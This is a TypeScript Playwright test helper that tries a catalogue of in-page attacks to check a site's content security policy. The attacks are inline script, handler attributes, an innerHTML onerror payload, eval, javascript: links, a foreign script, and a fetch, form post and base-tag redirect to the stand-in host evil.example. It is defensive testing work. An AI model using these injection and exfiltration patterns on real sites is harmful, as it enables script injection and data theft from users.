import type { Page } from '@playwright/test';
import { untilHydrated } from './site-test';

/** Exposed to the page by `startAttacks`. */
declare function ran(name: string): void;

const EVIL = 'https://evil.example';

/** Runs in the page: adds an element, as injected code would. */
function add(tag: string, properties: object, attributes: Record<string, string> = {}): HTMLElement {
  const element = Object.assign(document.createElement(tag), properties);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  return document.body.appendChild(element);
}
const outlineOf = (element: Element | null) => getComputedStyle(element ?? document.body).outlineWidth;

/**
 * Ways to get code into a page or data out of it. Each runs in a timer of the page, because the policy does not apply to what
 * Playwright evaluates itself. An attack has worked when it calls `ran(name)`, or when its request for `address` is sent.
 */
const inPage: Record<string, (name: string, address: string) => unknown> = {
  'inline script': (name) => add('script', { textContent: `ran('${name}')` }),
  'handler attribute': (name) => add('button', {}, { onclick: `ran('${name}')` }).click(),
  'innerHTML with a handler': (name) => add('div', { innerHTML: `<img src="data:," onerror="ran('${name}')">` }),
  eval: (name) => eval(`ran('${name}')`),
  'script of another site': (name, address) => add('script', { src: address }),
  'script of our site that no build made': (name) => add('script', { src: `/planted.js?${encodeURIComponent(name)}` }),
  'link that is a script': (name) => add('a', { href: `javascript:ran('${name}')` }).click(),
  'style element': (name) => {
    add('style', { textContent: 'h1 { outline: 7px solid }' });
    if (outlineOf(document.querySelector('h1')) === '7px') ran(name);
  },
  'fetch to another site': (name, address) => fetch(address, { mode: 'no-cors' }).catch(() => {}),
  'form to another site': (name, address) =>
    (add('form', { action: address, method: 'post', target: '_blank' }) as HTMLFormElement).submit(),
  'base of another site': (name) => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.prepend(base);
    if (document.baseURI === base.href) ran(name);
    base.remove();
  },
};

export const attacks = Object.keys(inPage);

/**
 * Tries each attack on a page.
 *
 * @returns a set that fills with the names of the attacks that work
 */
export async function startAttacks(page: Page, address: string): Promise<ReadonlySet<string>> {
  const worked = new Set<string>();
  await page.exposeFunction('ran', (name: string) => void worked.add(name));
  await page.context().route(/evil\.example\/\?|\/planted\.js\?/, (route) => {
    const name = decodeURIComponent(new URL(route.request().url()).search.slice(1));
    if (route.request().resourceType() !== 'script') worked.add(name);
    return route.fulfill({ contentType: 'text/javascript', body: `ran(${JSON.stringify(name)})` });
  });
  const code = Object.entries(inPage).map(([name, run]) => `${JSON.stringify(name)}: ${String(run)}`);
  await page.addInitScript({
    content: `${String(add)}; const outlineOf = ${String(outlineOf)}; window.attacks = { ${code.join(',')} }`,
  });
  await page.goto(address);
  // React renders the page anew because of the planted HTML, and would take away a frame that was added before and still loads.
  await untilHydrated(page);
  for (const name of Object.keys(inPage)) {
    await page.evaluate(
      ([chosen = '', to = '']) => {
        const { attacks: known } = window as unknown as { attacks: typeof inPage };
        setTimeout(() => known[chosen]?.(chosen, to));
      },
      [name, `${EVIL}/?${encodeURIComponent(name)}`],
    );
  }
  return worked;
}
